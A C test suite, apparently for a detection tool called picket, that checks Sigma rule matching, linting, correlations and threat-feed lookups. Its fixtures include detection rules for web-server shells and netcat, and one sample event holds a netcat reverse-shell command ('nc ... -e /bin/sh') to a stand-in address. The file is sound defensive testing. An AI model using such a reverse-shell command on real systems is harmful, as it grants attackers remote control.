#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/support/check_main.h"
#include "tests/support/keeper.h"
#include "tests/support/program.h"

/* Rules and feeds tried offline by the commands, as people and scripts do it. */
#define SIGMA "../shared/data/sigma"
#define TELEMETRY "../shared/data/telemetry"
#define TIME_LIMIT_S 120

static struct buf output;
static const char *folder;

static void setup(void)
{
    buf_init(&output, 4 << 20);
    folder = keeper_folder(NULL);
}

static void teardown(void)
{
    buf_done(&output);
}

static const char *file(const char *name, const char *content)
{
    static char paths[8][256];
    static unsigned next;
    char *path = paths[next++ % 8];

    snprintf(path, sizeof paths[0], "%s/%s", folder, name);
    FILE *out = fopen(path, "we");
    ck_assert_msg(out && fputs(content, out) >= 0 && fclose(out) == 0, "%s cannot be written", path);
    return path;
}

static int picket(const char *noun, const char *verb, const char *const *arguments)
{
    const char *all[16] = {noun, verb};

    for (size_t i = 0; arguments[i]; i++)
        all[i + 2] = arguments[i];
    buf_clear(&output);
    int code = program_run("picket", all, NULL, &output);
    buf_byte(&output, '\0');
    return code;
}

static int rule_test(const char *const *arguments)
{
    return picket("rule", "test", arguments);
}

static const char shell[] = "title: A shell of the web server\nid: 11111111-1111-4111-8111-111111111111\nlogsource:\n  category: process_creation\n"
                            "detection:\n  parent:\n    ParentImage|endswith: /lighttpd\n  shell:\n    Image|endswith: ['/sh', '/bash']\n"
                            "  condition: parent and shell\n";
static const char events[] = "{\"event_id\":\"e1\",\"Image\":\"/bin/sh\",\"ParentImage\":\"/usr/sbin/lighttpd\"}\n"
                             "{\"Image\":\"/bin/sh\",\"ParentImage\":\"/sbin/init\"}\n\n"
                             "{\"Image\":\"/bin/BASH\",\"ParentImage\":\"/usr/sbin/lighttpd\",\"more\":{\"a\":[1,null,true]}}\n";

START_TEST(each_match_is_a_line_that_says_why)
{
    const char *rules = file("shell.yml", shell), *seen = file("events.ndjson", events);

    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", seen, "--events-as", "sigma", "--json", NULL}), 0);
    ck_assert_str_eq(output.bytes,
                     "{\"event\":\"e1\",\"rule\":\"11111111-1111-4111-8111-111111111111\",\"matched\":["
                     "{\"field\":\"ParentImage\",\"clause\":\"ParentImage ends with '/lighttpd'\"},{\"field\":\"Image\",\"clause\":\"Image ends with '/sh'\"}]}\n"
                     "{\"event\":4,\"rule\":\"11111111-1111-4111-8111-111111111111\",\"matched\":["
                     "{\"field\":\"ParentImage\",\"clause\":\"ParentImage ends with '/lighttpd'\"},{\"field\":\"Image\",\"clause\":\"Image ends with '/bash'\"}]}\n");
    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", seen, "--events-as", "sigma", NULL}), 0);
    ck_assert_ptr_nonnull(strstr(output.bytes, "e1  11111111-1111-4111-8111-111111111111  A shell of the web server: ParentImage ends with"));
}
END_TEST

START_TEST(folders_are_read_to_their_last_file_and_refusals_told)
{
    char inner[300];
    snprintf(inner, sizeof inner, "%s/inner", folder);
    ck_assert_int_eq(mkdir(inner, 0700), 0);
    file("inner/shell.yaml", shell);
    file("inner/readme.txt", "no rule");
    const char *seen = file("events.ndjson", events);
    file("two.yml", "title: no detection\nid: x-1\nlogsource: {}\n---\ntitle: odd\nlogsource: {}\ndetection:\n  s:\n    A|odd: 1\n  condition: s\n");
    file("three.yml", "title: [\n");

    ck_assert_int_eq(rule_test((const char *const[]){"--rules", folder, "--events", seen, "--events-as", "sigma", "--json", NULL}), 0);
    ck_assert_ptr_nonnull(strstr(output.bytes, "\"event\":\"e1\""));
    ck_assert_ptr_nonnull(strstr(output.bytes, "two.yml: x-1: there is no detection\n"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "two.yml: odd: there is no modifier odd\n"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "three.yml: no id: no YAML"));
}
END_TEST

START_TEST(rules_are_told_whether_they_are_understood)
{
    char inner[300];
    snprintf(inner, sizeof inner, "%s/lint", folder);
    ck_assert_int_eq(mkdir(inner, 0700), 0);
    file("lint/a.yml", "title: A\nid: a-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /telnetd\n  condition: s\n");
    file("lint/e.yml", shell);
    ck_assert_int_eq(picket("rule", "lint", (const char *const[]){inner, NULL}), 0);
    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml: a-1: ok\n"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "e.yml: 11111111-1111-4111-8111-111111111111: it can never match: it asks for ParentImage"));
    file("lint/b.yml", "title: x\nid: b-1\nlogsource: {}\n");
    file("lint/c.yml", "title: x\nid: c-1\nlogsource: {}\ndetection:\n  s:\n    A: ab\n  condition: s\n");
    file("lint/d.yml", "title: [\n");
    ck_assert_int_eq(picket("rule", "lint", (const char *const[]){inner, "--json", NULL}), 1);
    ck_assert_ptr_nonnull(strstr(output.bytes, "a.yml\",\"rule\":\"a-1\",\"ok\":true}\n"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "b.yml\",\"rule\":\"b-1\",\"ok\":false,\"reason\":\"there is no detection\"}\n"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "c.yml\",\"rule\":\"c-1\",\"ok\":true,\"warnings\":[\"it can never match: no events are mapped"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "\"no text of three letters"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "d.yml\",\"rule\":null,\"ok\":false,\"reason\":\"no YAML"));
}
END_TEST

/* As GET /v1/events answers; the very engine of the stream. */
START_TEST(pickets_own_events_are_judged_by_sigma_by_correlations_and_by_what_is_built_in)
{
    const char *seen = file("own.ndjson",
                            "{\"event_id\":\"p1\",\"name\":\"ProcessCreate\",\"device\":\"d\",\"time_stamp\":\"2026-01-01T00:00:00Z\",\"details\":{\"Executable\":\"/bin/nc\",\"CommandLine\":\"nc 198.51.100.7 4444 -e /bin/sh\"}}\n"
                            "{\"name\":\"Process\",\"device\":\"d\",\"time_stamp\":\"2026-01-01T00:00:10Z\",\"details\":{\"Executable\":\"/bin/nc\",\"Commandline\":\"nc -l 80\",\"EventType\":\"EXEC\"}}\n"
                            "{\"name\":\"ConnectionCreate\",\"device\":\"d\",\"details\":{\"RemoteAddress\":\"198.51.100.7\"}}\n");
    const char *rules = file("own.yml", "title: nc\nid: n-1\nname: nc\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /nc\n  condition: s\n---\n"
                                        "title: twice\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [nc]\n  timespan: 1m\n  generate: true\n  condition: {gte: 2}\n---\n"
                                        "title: alone\nid: c-2\ncorrelation:\n  type: temporal\n  rules: [nobody]\n  timespan: 1m\n");

    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", seen, "--built-in", "--json", NULL}), 0);
    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":\"p1\",\"rule\":\"IoT_ReverseShell\",\"matched\":[{\"field\":\"CommandLine\""));
    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":\"p1\",\"rule\":\"n-1\",\"matched\":[{\"field\":\"Image\",\"clause\":\"Image ends with '/nc'\"}]}"));
    ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":2,\"rule\":\"c-1\""));
    ck_assert_ptr_nonnull(strstr(output.bytes, "own.yml: c-2: it names the rule nobody, which is not there\n"));
    ck_assert_ptr_null(strstr(output.bytes, "\"event\":3"));
}
END_TEST

START_TEST(correlations_go_by_the_events_own_time)
{
    static const char *const names[] = {"@timestamp", "UtcTime", "time_stamp", "TimeGenerated"};
    const char *rules = file("window.yml", "title: nc\nid: n-1\nname: nc\nlogsource: {product: linux}\ndetection:\n  s:\n    Image: nc\n  condition: s\n---\n"
                                           "title: twice\nid: c-1\ncorrelation:\n  type: event_count\n  rules: [nc]\n  timespan: 1m\n  condition: {gte: 2}\n");

    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char seen[400];
        snprintf(seen, sizeof seen, "{\"Image\":\"nc\",\"%s\":\"2026-01-01T00:00:00Z\"}\n{\"Image\":\"nc\",\"%s\":\"2026-01-01T00:02:00Z\"}\n"
                 "{\"Image\":\"nc\",\"%s\":\"2026-01-01T00:02:30Z\"}\n", names[i], names[i], names[i]);
        ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", file("window.ndjson", seen), "--events-as", "sigma", "--json", NULL}), 0);
        ck_assert_ptr_null(strstr(output.bytes, "{\"event\":2,\"rule\":\"c-1\""));
        ck_assert_ptr_nonnull(strstr(output.bytes, "{\"event\":3,\"rule\":\"c-1\""));
    }
}
END_TEST

START_TEST(what_is_asked_wrong_is_said)
{
    const char *rules = file("shell.yml", shell), *broken = file("broken.ndjson", "{\"a\":1}\n[1]\n");

    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "--events FILE"));
    ck_assert_int_eq(rule_test((const char *const[]){"--rules", rules, "--events", broken, "--events-as", "sigma", NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "line 2: an event is a JSON object"));
    ck_assert_int_eq(rule_test((const char *const[]){"--rules", "/nowhere", "--events", broken, "--events-as", "sigma", NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "there is no /nowhere"));
    ck_assert_int_eq(rule_test((const char *const[]){"--events", broken, "--events-as", "sigma", NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "there are no rules"));
}
END_TEST

START_TEST(observations_are_told_which_feed_lists_them)
{
    const char *list = file("list.txt", "192.0.2.1:80\nbad.example\n!nothing\njust words\n"),
               *misp = file("misp.json", "{\"Event\":{\"Attribute\":[{\"type\":\"domain\",\"value\":\"www.bad.example\"}]}}"),
               *said = file("seen.ndjson", "{\"id\":\"a\",\"kind\":\"domain\",\"value\":\"WWW.Bad.example.\"}\n{\"id\":2,\"kind\":\"ip_port\",\"value\":\"192.0.2.1:80\"}\n"
                                          "{\"id\":3,\"kind\":\"ip\",\"value\":\"192.0.2.1\"}\n"),
               *odd = file("odd.ndjson", "{\"id\":1,\"kind\":\"ip\",\"value\":\"192.0.2.1\"}\n{\"id\":2,\"kind\":\"smell\",\"value\":\"x\"}\n");

    ck_assert_int_eq(picket("feed", "match", (const char *const[]){"--feed", list, "--feed", misp, "--observations", said, "--json", NULL}), 0);
    char wanted[2000];
    snprintf(wanted, sizeof wanted,
             "{\"id\":\"a\",\"match\":true,\"indicators\":[{\"feed\":\"%s\",\"value\":\"www.bad.example\"},{\"feed\":\"%s\",\"value\":\"bad.example\"}]}\n"
             "{\"id\":2,\"match\":true,\"indicators\":[{\"feed\":\"%s\",\"value\":\"192.0.2.1:80\"}]}\n"
             "{\"id\":3,\"match\":false,\"indicators\":[]}\n",
             misp, list, list);
    ck_assert_msg(strstr(output.bytes, wanted) != NULL, "%s", output.bytes);
    ck_assert_ptr_nonnull(strstr(output.bytes, "2 indicators; 1 entries are none of the kinds"));
    ck_assert_int_eq(picket("feed", "match", (const char *const[]){"--feed", list, "--observations", odd, NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "line 2: there is no kind smell"));
    ck_assert_int_eq(picket("feed", "match", (const char *const[]){"--feed", list, "--format", "parchment", "--observations", odd, NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "there is no format parchment"));
    ck_assert_int_eq(picket("feed", "match", (const char *const[]){"--observations", odd, NULL}), 2);
    ck_assert_ptr_nonnull(strstr(output.bytes, "which feed?"));
}
END_TEST

/* Where what is known lies beside us. */
static void script_run(const char *script, const char *known, const char *sample)
{
    char python[512], path[512], picket_path[512];

    snprintf(path, sizeof path, "%s/%s", known, sample);
    if (access(path, R_OK)) {
        fprintf(stderr, "skipped: %s is not there: known answers are not compared\n", known);
        return;
    }
    snprintf(python, sizeof python, "%s/python/bin/python", program_build_root());
    snprintf(path, sizeof path, "%s/../tests/%s", program_build_root(), script);
    snprintf(picket_path, sizeof picket_path, "%s/picket", program_build_path());
    int code = program_run(python, (const char *const[]){path, picket_path, known, NULL}, NULL, &output);
    buf_byte(&output, '\0');
    ck_assert_msg(code == 0, "%s", output.bytes);
}

START_TEST(known_answers_are_met)
{
    script_run("sigma/known.py", SIGMA, "regression/cases.ndjson");
}
END_TEST

START_TEST(recorded_attackers_are_found_and_ordinary_sources_are_not)
{
    script_run("telemetry/known.py", TELEMETRY, "README.md");
}
END_TEST

int main(void)
{
    const TTest *const tests[] = {
        each_match_is_a_line_that_says_why,
        folders_are_read_to_their_last_file_and_refusals_told,
        rules_are_told_whether_they_are_understood,
        pickets_own_events_are_judged_by_sigma_by_correlations_and_by_what_is_built_in,
        correlations_go_by_the_events_own_time,
        what_is_asked_wrong_is_said,
        observations_are_told_which_feed_lists_them,
        known_answers_are_met,
        recorded_attackers_are_found_and_ordinary_sources_are_not,
    };
    const struct check_suite suite = {"rules", tests, sizeof tests / sizeof *tests, setup, teardown, TIME_LIMIT_S};
    return check_main(&suite);
}
